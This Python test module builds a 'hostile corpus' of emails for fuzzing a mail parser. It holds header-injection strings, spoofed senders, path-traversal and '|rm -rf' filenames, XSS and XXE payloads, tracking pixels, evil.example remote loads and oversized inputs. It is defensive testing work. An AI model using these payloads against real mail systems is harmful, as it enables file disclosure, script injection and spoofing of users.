"""Builds the hostile corpus: several hundred mails that attack parsers, layout, file systems and people.

`python -m tests.hostile.corpus FOLDER` writes them as .eml files.
"""

import base64
import sys
from collections.abc import Iterator
from pathlib import Path

HEAD = b"From: Ana Souza <ana@example.com>\r\nTo: help@shop.example\r\nMessage-ID: <h@example.com>\r\n"
PLAIN = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"

Case = tuple[str, bytes]


def build() -> dict[str, bytes]:
    """Every mail of the corpus by name."""
    cases: dict[str, bytes] = {}
    for family in (
        _headers,
        _senders,
        _structures,
        _charsets,
        _filenames,
        _html,
        _heavy_html,
        _texts,
        _garbage,
    ):
        for name, mail in family():
            key = f"{family.__name__.strip('_')}-{name}"
            assert key not in cases
            cases[key] = mail
    return cases


def _with_header(*lines: bytes, body: bytes = b"Hello\r\n") -> bytes:
    return b"\r\n".join([*lines, HEAD.rstrip()]) + b"\r\n" + PLAIN + body


def _headers() -> Iterator[Case]:
    injected = [
        b"=?utf-8?q?a=0D=0ABcc:_x@y?=",
        b"=?utf-8?b?YQ0KQmNjOiB4QHk=?=",
        b"a\x00b\x07c\x1b[31m",
        b"=?utf-8?q?=E2=80=AEtxt.exe?=",
        b"=?utf-8?q?=ED=A0=80?=",
        b"=?x-unknown?q?abc?=",
        b"=?utf-8?b?!!!!?=",
        b"=?utf-8?q?" + b"x" * 100_000 + b"?=",
        b"=?" * 20_000,
        b"=?utf-8?q?a?= " * 10_000,
        b"a\rBcc: x@y",
        b"a" * 200_000,
        b"\xff\xfe\x80 caf\xe9",
        b"<img src=x onerror=alert(1)>",
        b"=?utf-7?q?+AGEADQAKAEI-?=",
        b"=?unicode_escape?q?=5Cud800?=",
        b"=?idna?q?" + b"a" * 5_000 + b"?=",
    ]
    for number, subject in enumerate(injected):
        yield f"subject-{number:02}", _with_header(b"Subject: " + subject)
    yield "one-line-300k", b"X-A: " + b"b" * 300_000 + b"\r\n" + HEAD + PLAIN + b"Hello"
    yield "many-fields", b"X-A: b\r\n" * 40_000 + HEAD + PLAIN + b"Hello"
    yield "no-end", b"X-A: b\r\n" * 60_000
    yield "folded", _with_header(b"Subject: a" + b"\r\n " * 50_000)
    yield "nul-names", _with_header(b"X\x00Y: 1", b"\xff: 2", b": 3", b" : 4", b"no colon at all")
    yield "only-newlines", b"\r\n" * 100_000
    yield "bare-cr", HEAD.replace(b"\r\n", b"\r") + b"\r\rHello"
    yield "parens", _with_header(b"Cc: " + b"(" * 1_000 + b"a@b.example")
    yield "balanced-parens", _with_header(b"Cc: " + b"(" * 5_000 + b")" * 5_000 + b"a@b.example")
    yield "addresses-20k", _with_header(b"Cc: " + b",".join(b"a%d@b.example" % n for n in range(9_000)))
    yield "groups", _with_header(b"Cc: " + b"g:" * 20_000 + b";" * 20_000)
    yield "quotes", _with_header(b"Cc: " + b'"' * 50_001)
    yield "angles", _with_header(b"Cc: " + b"<" * 50_000)
    yield "ats", _with_header(b"Cc: " + b"@" * 50_000)
    yield "commas", _with_header(b"Cc: " + b"," * 100_000)
    yield "backslashes", _with_header(b'Cc: "' + b"\\" * 100_000)
    yield "references", _with_header(b"References: " + b" ".join(b"<%d@x>" % n for n in range(20_000)))
    yield "references-open", _with_header(b"References: " + b"<" * 100_000)
    yield "message-id-controls", b"Message-ID: <a\x00b\x1b@x>\r\n" + HEAD + PLAIN + b"Hello"
    for number, date in enumerate(
        [b"99999999999", b"Mon, 99 Foo 99999 99:99:99 +9999", b"1" * 5_000, b"-1", b"\x00"]
    ):
        yield f"date-{number}", _with_header(b"Date: " + date)
    yield "date-year-10000", _with_header(b"Date: Mon, 01 Jan 10000 00:00:00 +0000")
    yield "date-zone", _with_header(b"Date: Mon, 01 Jan 2001 00:00:00 +99999999999999")
    yield "content-type-junk", HEAD + b"Content-Type: " + b"/" * 10_000 + b";" * 10_000 + b"\r\n\r\nHello"
    yield "parameters", HEAD + b"Content-Type: text/plain; " + b'a="b"; ' * 10_000 + b"\r\n\r\nHello"
    yield (
        "rfc2231",
        HEAD
        + b"Content-Type: text/plain; "
        + b"".join(b"name*%d*=%%ff;" % n for n in range(10_000))
        + b"\r\n\r\nHello",
    )


def _senders() -> Iterator[Case]:
    froms = [
        b"a@good.example <evil@bad.example>",
        b'"a@good.example" <evil@bad.example>',
        b"=?utf-8?q?a=40good.example?= <evil@bad.example>",
        b"a@good.example, b@bad.example",
        b"<a@good.example><evil@bad.example>",
        b"a@good.example\r\nFrom: evil@bad.example",
        b"evil@bad.example\x00@good.example",
        b"<a@good.example>\x00<evil@bad.example>",
        b"a@good.example (evil@bad.example)",
        b"(a@good.example) evil@bad.example",
        b"Team: a@good.example;",
        b"",
        b"nobody",
        b"<>",
        b"=?utf-8?q?a=40good.example=3E_=3C?= <evil@bad.example>",
        b'"A\\" <a@good.example>, \\"B" <evil@bad.example>',
        b"a@good.example@bad.example",
        b"<@good.example:evil@bad.example>",
        b"a@localhost",
        b'"a b"@good.example',
        b"\xe2\x80\xaeana@good.example",
        b"ana\xe2\x80\x8b@good.example",
        b"A <a@good.example> B",
        b"A <a@good.example",
        b"A a@good.example>",
        b"<script>@good.example",
    ]
    for number, value in enumerate(froms):
        yield f"{number:02}", b"From: " + value + b"\r\nSubject: Hi\r\n" + PLAIN + b"Hello"
    yield "none", b"Subject: Hi\r\n" + PLAIN + b"Hello"


def _multipart(*parts: bytes, kind: bytes = b"mixed", boundary: bytes = b"b") -> bytes:
    head = (
        HEAD
        + b"MIME-Version: 1.0\r\nContent-Type: multipart/"
        + kind
        + b"; boundary="
        + boundary
        + b"\r\n\r\n"
    )
    return (
        head
        + b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
        + b"--"
        + boundary
        + b"--\r\n"
    )


def _nested(depth: int, *, same: bool = False) -> bytes:
    lines = [HEAD.rstrip()]
    for level in range(depth):
        name = b"b" if same else b"b%dx" % level
        lines.append(b'Content-Type: multipart/mixed; boundary="' + name + b'"\r\n\r\n--' + name)
    return b"\r\n".join(lines) + b"\r\n" + PLAIN + b"Hello"


def _structures() -> Iterator[Case]:
    for depth in (10, 19, 20, 21, 50, 200, 2_000):
        yield f"depth-{depth}", _nested(depth)
    yield "depth-same-boundary", _nested(2_000, same=True)
    for depth in (19, 100, 1_000):
        yield f"messages-{depth}", HEAD + b"Content-Type: message/rfc822\r\n\r\n" * depth + b"Hello"
    for number in (900, 1_001, 100_000):
        yield f"parts-{number}", _multipart(*[b""] * number)
    yield "parts-no-end", _multipart(PLAIN + b"Hello")[:-8]
    yield "parts-only-end", HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b--\r\nHello"
    yield "no-boundary", HEAD + b"Content-Type: multipart/mixed\r\n\r\n--b\r\n\r\nHello"
    yield (
        "empty-boundary",
        HEAD + b'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\nHello\r\n----\r\n',
    )
    yield "long-boundary", _multipart(PLAIN + b"Hello", boundary=b"b" * 5_000)
    yield (
        "prefix-boundaries",
        _multipart(
            b"Content-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\n\r\nA\r\n--bb--", PLAIN + b"Hello"
        ),
    )
    yield "boundary-regex", _multipart(PLAIN + b"Hello", boundary=b'"(a+)+$.*[b]"')
    yield (
        "two-content-types",
        HEAD + b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<b>Hello</b>",
    )
    for encoding in (b"base64", b"quoted-printable", b"x-uuencode", b"8bit", b"gzip", b"base64, base64", b""):
        for body in (b"!!!SGVs\xffbG8=", b"=ZZ=3D=\r\n=", b"begin 644 x\r\n#86)C\r\n`\r\nend"):
            name = encoding.replace(b", ", b"-").decode() or "none"
            yield (
                f"encoding-{name}-{body[:2].hex()}",
                (
                    HEAD
                    + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: "
                    + encoding
                    + b"\r\n\r\n"
                    + body
                ),
            )
    yield (
        "base64-multipart",
        HEAD
        + (b"Content-Type: multipart/mixed; boundary=b\r\nContent-Transfer-Encoding: base64\r\n\r\n")
        + base64.b64encode(b"--b\r\n\r\nHello\r\n--b--"),
    )
    yield (
        "delivery-status",
        _multipart(
            b"Content-Type: message/delivery-status\r\n\r\n"
            + b"Final-Recipient: rfc822; a@b.example\r\n\r\n" * 20_000,
            kind=b"report; report-type=delivery-status",
        ),
    )
    yield (
        "feedback-junk",
        _multipart(
            b"Content-Type: message/feedback-report\r\n\r\n\x00\xff" + b":" * 100_000,
            kind=b"report; report-type=feedback-report",
        ),
    )
    yield (
        "attachment-10mb",
        _multipart(
            PLAIN + b"Hello",
            b'Content-Type: application/zip; name="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + base64.encodebytes(b"PK" * 5_000_000),
        ),
    )
    yield "alternatives-500", _multipart(*[PLAIN + b"Hello"] * 500, kind=b"alternative")


def _charsets() -> Iterator[Case]:
    bodies = {
        "ascii": b"Hello caf\xe9 \x80\x9f\xff",
        "utf8": "Größe 漢字 🎉".encode(),
        "utf8-cut": "Größe 漢字".encode()[:-1],
        "surrogate": b"a\xed\xa0\x80b",
        "jis-cut": b"\x1b$B$3$s$K$A$",
        "nul": b"a\x00b\x00c\x00",
        "bom16": b"\xff\xfea\x00b",
    }
    charsets = [
        *(
            "klingon",
            "utf-8",
            "us-ascii",
            "iso-2022-jp",
            "utf-16",
            "utf-7",
            "gb2312",
            "base64",
            "rot13",
            "idna",
        ),
        *(
            "unicode_escape",
            "punycode",
            "x" * 3_000,
            "\x00",
            "zlib",
            "utf-8; charset=utf-16",
            "hz",
            "undefined",
        ),
    ]
    for number, charset in enumerate(charsets):
        for name, body in bodies.items():
            yield (
                f"{number:02}-{name}",
                (HEAD + b'Content-Type: text/plain; charset="' + charset.encode() + b'"\r\n\r\n' + body),
            )


def _filenames() -> Iterator[Case]:
    names = [
        b"../../etc/passwd",
        b"..\\..\\windows\\system32\\x.dll",
        b"C:\\Users\\x.exe",
        b"/etc/shadow",
        b"a\x00.png",
        b"CON",
        b"con.txt",
        b"NUL .txt",
        b"LPT1.pdf",
        b"a:b",
        b"file.txt:evil.exe",
        b"\xe2\x80\xaegpj.exe",
        b"a\xe2\x80\x8bb.pdf",
        b".",
        b"..",
        b"   ",
        b".bashrc",
        b"a" * 5_000 + b".pdf",
        b"a." + b"b" * 5_000,
        b"<img src=x>.png",
        b"=?utf-8?q?..=2F..=2Fx?=",
        b"x.pdf                                                  .exe",
        b"\xff\xfe.pdf",
        b"a\r\n\tb.pdf",
        b"\xef\xbc\x8fetc\xef\xbc\x8fpasswd",
        b"~root",
        b"|rm -rf",
        b"a?.txt*",
        b"x.lnk",
        b"x.html",
    ]
    for number, name in enumerate(names):
        yield (
            f"{number:02}",
            _multipart(
                PLAIN + b"Hello", b'Content-Disposition: attachment; filename="' + name + b'"\r\n\r\nx'
            ),
        )
    yield (
        "rfc2231",
        _multipart(
            PLAIN + b"Hello",
            b"Content-Disposition: attachment; filename*=utf-8''..%2F..%2F%00%E2%80%AEx\r\n\r\nx",
        ),
    )


def _html_mail(html: bytes) -> bytes:
    return HEAD + b"Subject: Hi\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html


def _html() -> Iterator[Case]:
    pieces = [
        b"<script>alert(1)</script>Hello",
        b"<scr<script>ipt>alert(1)</scr</script>ipt>",
        b"<img src=x onerror=alert(1)>",
        b'<a href=" javascript:alert(1)">x</a>',
        b'<a href="java\tscript:alert(1)">x</a>',
        b'<a href="&#106;avascript:alert(1)">x</a>',
        b'<a href="data:text/html,<script>">x</a>',
        b'<a href="//evil.example/x">x</a>',
        b'<a href="\\\\evil.example\\x">x</a>',
        b'<a href="file:///etc/passwd">x</a>',
        b'<a href="http:\\\\evil.example">x</a>',
        b'<a href="https://good.example@evil.example/">x</a>',
        b'<a href="mailto:a@b.example?attach=/etc/passwd&amp;subject=x">x</a>',
        b'<img src="//evil.example/a.png">',
        b'<img src="\\\\evil.example\\a.png">',
        b'<img src="file:///c:/x.png">',
        b'<img src="https://t.example/p.gif" width="1" height="1">',
        b'<img src="https://t.example/p.gif" style="display:none">',
        b'<div style="display:none"><img src="https://t.example/p.gif"></div>Hi',
        b'<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        b'<img src="data:image/png;base64,' + b"A" * 2_000_000 + b'">',
        b'<img srcset="https://t.example/a 1x, //evil/b 2x">',
        b'<style>@import "//evil.example/x.css"; body{background:url(//evil)}</style>Hi',
        b'<p style="background:url(//evil.example/x)">x</p>',
        b'<p style="background-image:url(&#39;file:///x&#39;)">x</p>',
        b'<p style="width:expression(alert(1))">x</p>',
        b'<p style="color:red;background:\\75rl(//evil)">x</p>',
        b'<p style="color:var(--x);position:fixed;top:0">x</p>',
        b'<p style="background:image-set(url(x))">x</p>',
        b'<link rel=stylesheet href="//evil/x.css"><base href="//evil/"><a href="x">x</a>',
        b'<meta http-equiv="refresh" content="0;url=//evil">x',
        b'<form action="//evil"><input name=p type=password><button>x</button></form>',
        b'<iframe src="//evil"></iframe><object data="//evil"></object><embed src="//evil">x',
        b"<svg><a xlink:href=javascript:x><text>x</text></a><script>y</script></svg>",
        b"<math><mtext><style><img src=x onerror=y></style></mtext></math>",
        b'<svg></p><style><a id="</style><img src=1 onerror=x>">',
        b"<noscript><p title='</noscript><img src=x onerror=y>'></noscript>",
        b'<table background="//evil/x.png"><tr><td background="file:///x">x</td></tr></table>',
        b'<body background="//evil" onload="x()">Hi</body>',
        b"<!--[if mso]><script>x</script><![endif]-->Hi<!-- unclosed",
        b"<![CDATA[<script>x</script>]]>Hi",
        b"<?php echo 1 ?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        b"<template><script>x</script></template><video src=//evil></video>x",
        b"<a href='https://x.example'><a href='https://y.example'>x</a></a>",
        b"<td colspan=99999999 rowspan=99999999 width=99999999>x</td>",
        b"<table><tr><td colspan=99999999 rowspan=99999999 width=99999999>x</table>",
        b'<ol start="99999999999999999999"><li>x</ol><font size=99999>x</font>',
        b"\xef\xbb\xbf<p>x\x00y\x07\xe2\x80\xae</p>",
        b"<p>&#0;&#xD800;&#x202E;&#99999999999;</p>",
        b"<plaintext>Hello<script>x",
        b"<xmp><script>x</script></xmp>Hello",
        b'<a href="https://x.example/' + b"a" * 100_000 + b'">x</a>',
        b'<img alt="' + b"&lt;b&gt;" * 20_000 + b'" src="https://x.example/a.png">',
        b'<blockquote class="gmail_quote">' * 90 + b"x",
        b'<div class="gmail_quote">On 1.1.2020 10:10 A a@b.example wrote:<blockquote>q</blockquote></div>',
        b'<img src="cid:x&quot; onerror=&quot;y"><img src="cid:../../x">',
        b'<a href="HTTPS://X.EXAMPLE">x</a><a href="ht&#10;tps://x.example">y</a>',
    ]
    for number, piece in enumerate(pieces):
        yield f"{number:02}", _html_mail(piece)


def _heavy_html() -> Iterator[Case]:
    yield "div-80k", _html_mail(b"<div>" * 80_000 + b"Hello")
    yield "div-9k", _html_mail(b"<div>" * 9_000 + b"Hello")
    yield "div-101", _html_mail(b"<div>" * 101 + b"Hello")
    yield "div-90", _html_mail(b"<div>" * 90 + b"Hello")
    yield "flat-20k", _html_mail(b"<div>x</div>" * 20_000)
    yield "tables-20", _html_mail(b"<table><tr><td>" * 20 + b"Hello")
    yield "tables-8", _html_mail(b"<table><tr><td>" * 8 + b"Hello")
    yield "list-9k", _html_mail(b"<ul>" + b"<li>x" * 9_000)
    yield "line-1mb", _html_mail(b"<p>" + b"x" * 999_000)
    yield "line-30k", _html_mail(b"<p>" + b"word " * 6_000 + b"</p>")
    yield "size-5mb", _html_mail(b"<p>Hello</p>" * 420_000)
    yield "hidden-closers", _html_mail(b"<div><!--</div>-->" * 20_000)
    yield "misnested", _html_mail(b"<p><div></p>" * 30_000)
    yield "formatting", _html_mail(b"".join(b'<b title="%d">' % n for n in range(3_000)) + b"<p>x" * 3_000)
    yield "formatting-open", _html_mail(b"<b><i><u>" * 3_000 + b"<p>x</p>" * 900)
    yield "attributes", _html_mail(b"<p " + b"".join(b"a%d=1 " % n for n in range(100_000)) + b">Hello")
    yield "entities", _html_mail(b"&amp;" * 190_000)
    yield "scripts-unclosed", _html_mail(b"<script>" * 100_000)
    yield "comments-unclosed", _html_mail(b"<!--" * 200_000)
    yield "lt", _html_mail(b"<" * 900_000)
    yield "quotes", _html_mail(b'<a href="' * 100_000)
    yield "styles", _html_mail(b'<p style="' + b"color:red;" * 80_000 + b'">Hello')
    yield "blockquotes", _html_mail(b"<blockquote>x</blockquote>" * 4_900)
    yield "labels", _html_mail(b"<b>From:</b> x<br>" * 4_900)
    yield "hidden-many", _html_mail(b'<p style="display:none">x</p>' * 4_900)
    yield "hidden-nested", _html_mail(b'<div style="display:none">' * 95 + b"x" + b"</div>" * 95 + b"Hello")
    yield (
        "intros",
        _html_mail(b"<div>On 1.1.2020 10:10 A a@b.example wrote:</div><blockquote>x</blockquote>" * 2_000),
    )


def _text_mail(text: bytes) -> bytes:
    return HEAD + b"Subject: Hi\r\n" + PLAIN + text


def _texts() -> Iterator[Case]:
    yield "line-1mb", _text_mail(b"x" * 1_000_000)
    yield "lines-500k", _text_mail(b"\n" * 500_000)
    yield "quote-marks", _text_mail(b">" * 900_000)
    yield "quote-lines", _text_mail(b"> x\n" * 200_000)
    yield "intros", _text_mail(b"On 1.1.2020 10:10 Ana <a@b.example>\n" * 20_000)
    yield "intro-open", _text_mail(b"On 1.1.2020 10:10 " + b"a " * 200_000)
    yield "headers", _text_mail(b"From: a\n" * 60_000)
    yield "labels", _text_mail(b"From: a\nDate: b\nTo: c\n\n" * 20_000)
    yield "rules", _text_mail(b"_____\n" * 60_000 + b"From: a\nDate: b\nTo: c\nSubject: d\n")
    yield "signatures", _text_mail(b"-- \n" * 100_000)
    yield "mobile", _text_mail(b"Sent from my iPhone\n" * 50_000)
    yield "spaces", _text_mail(b" " * 900_000 + b"x")
    yield "forward-dashes", _text_mail(b"-" * 900_000 + b" Forwarded message")
    yield "angles", _text_mail(b"<" * 500_000 + b"@" * 400_000)
    yield "sent-spaces", _text_mail(b"Sent from " + b" " * 150 + b"\n" + b"from my " * 20)
    yield "flowed", HEAD + b"Content-Type: text/plain; format=flowed\r\n\r\n" + b"> a \n" * 100_000
    yield "bidi", _text_mail("\u202eolleH\u202c \u200b\u2066x".encode())
    yield "ansi", _text_mail(b"\x1b]0;x\x07\x1b[2JHello")


def _garbage() -> Iterator[Case]:
    yield "empty", b""
    yield "nul", b"\x00" * 10_000
    yield "ff", b"\xff" * 10_000
    yield "pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" * 1_000
    yield "gzip", b"\x1f\x8b\x08\x00" + bytes(range(256)) * 100
    yield "html-only", b"<html><script>x</script><body>Hello"
    yield "mbox", b"From a@b Mon Jan  1 00:00:00 2001\r\n" + HEAD + PLAIN + b"Hello"
    yield "colon", b":" * 300_000
    yield "utf16", (HEAD + PLAIN + b"Hello").decode().encode("utf-16")
    yield "truncated", (HEAD + PLAIN)[:40]


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for case, raw in build().items():
        (folder / f"{case}.eml").write_bytes(raw)
